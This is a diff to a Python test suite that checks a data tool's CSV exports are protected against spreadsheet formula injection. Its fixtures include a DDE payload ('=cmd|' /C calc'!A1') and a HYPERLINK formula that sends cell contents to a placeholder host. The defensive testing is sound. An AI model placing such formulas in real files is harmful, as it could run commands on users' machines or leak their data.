@@ -9,18 +9,18 @@ from urllib.parse import unquote
 import numpy as np
 import pytest
 from browser import browser
+from reproduction.output import csv_table
+from reproduction.result_table import ResultTable
 from typer.testing import CliRunner
 
 import unpooled
 from unpooled.app.cli import app
-from unpooled.experiments.papers.output import csv_table
-from unpooled.experiments.papers.result_table import ResultTable
-from unpooled.pages.spreadsheet import csv_text, neutralised
-from unpooled.site.copy_folder import CopyFolder
+from unpooled.site.table_store import SummaryFolder
+from unpooled.storage.spreadsheet import csv_text, neutralised
 
 LINK = '=HYPERLINK("http://example.org?x="&A1,"click")'
 COLUMNS = (LINK, "+plus", "-minus", "@at")
-LEVELS = ("=cmd|' /C calc'!A1", "+yes", "-no", "@maybe", "'=quoted", '"=twice', "\uff1dwide")
+CATEGORIES = ("=cmd|' /C calc'!A1", "+yes", "-no", "@maybe", "'=quoted", '"=twice', "\uff1dwide")
 SITES = ("=north", "@south")
 
 
@@ -39,12 +39,12 @@ def written(tmp_path_factory):
     for i in range(420):
         group = i % 2
         numbers = [f"{value:.4f}" for value in rng.normal(9 * group - 5, 1, len(COLUMNS))]
-        rows.append([f"-p{i}", SITES[i % 3 // 2], *numbers, LEVELS[rng.integers(len(LEVELS))]])
+        rows.append([f"-p{i}", SITES[i % 3 // 2], *numbers, CATEGORIES[rng.integers(len(CATEGORIES))]])
     table = tmp_path_factory.mktemp("table") / "people.csv"
     with table.open("w", newline="", encoding="utf-8") as file:
         csv.writer(file).writerows(rows)
     run = home / "run"
-    read = ("--categories", "=kind")
+    read = ("--categorical", "=kind")
     split = ("--site-column", "=site", "--exclude", "=id")
     call("fit", table, *split, *read, "-k", 2, "--min-cluster-size", 1, "--out", run)
     call("release", run, "--preset", "datashield", "--out", home / "release")
@@ -52,7 +52,7 @@ def written(tmp_path_factory):
     call("copy", "make", home / "site", "--data", table, "--person", "=id", "--exclude", "=site", *read)
     call("copy", "approve", home / "site")
     call("copy", "export", home / "site", home / "copy.csv")
-    call("copy", "renew", home / "site", "--data", table, "--persons", home / "persons.csv")
+    call("copy", "renew", home / "site", "--data", table, "--people", home / "persons.csv")
     return home, table
 
 
@@ -86,7 +86,7 @@ def test_no_file_that_a_command_writes_has_a_formula(written):
     found = {path.relative_to(home).as_posix(): cells(path) for path in home.rglob("*.csv")}
     hostile = {name for name, texts in found.items() if any(runs(text.lstrip("'\"")) for text in texts)}
     expected = {"release/clusters_by_site.csv", "release/profiles.csv", "release/levels.csv"}
-    assert hostile >= {*expected, "labels.csv", "copy.csv", "site/copy/table.csv", "persons.csv"}
+    assert hostile >= {*expected, "labels.csv", "copy.csv", "site/summary/table.csv", "persons.csv"}
     assert {"run/history.csv", "release/clusters.csv", "release/scores.csv"} <= found.keys()
     for name, texts in found.items():
         assert [text for text in texts if runs(text)] == [], name
@@ -106,9 +106,9 @@ def test_plain_numbers_stay_numbers(written):
 def test_the_copy_keeps_its_names(written):
     """Its table is read back: by the order of its columns, and with the names in about.json."""
     home, _ = written
-    copy = CopyFolder(home / "site").read()  # raises if it is not the one that was written
+    copy = SummaryFolder(home / "site").read()  # raises if it is not the one that was written
     assert {*COLUMNS, "=kind"} <= set(copy.names)
-    assert set(copy.levels["=kind"]) == set(LEVELS)
+    assert set(copy.categories["=kind"]) == set(CATEGORIES)
 
 
 def test_the_tables_that_a_report_saves_have_none(written, tmp_path):
@@ -209,4 +209,4 @@ def test_one_function_writes_all_csv():
         if isinstance(node, ast.Attribute)
         and node.attr in ("writer", "DictWriter", "to_csv", "to_excel", "Workbook")
     }
-    assert calls == {"pages/spreadsheet.py"}
+    assert calls == {"storage/spreadsheet.py"}
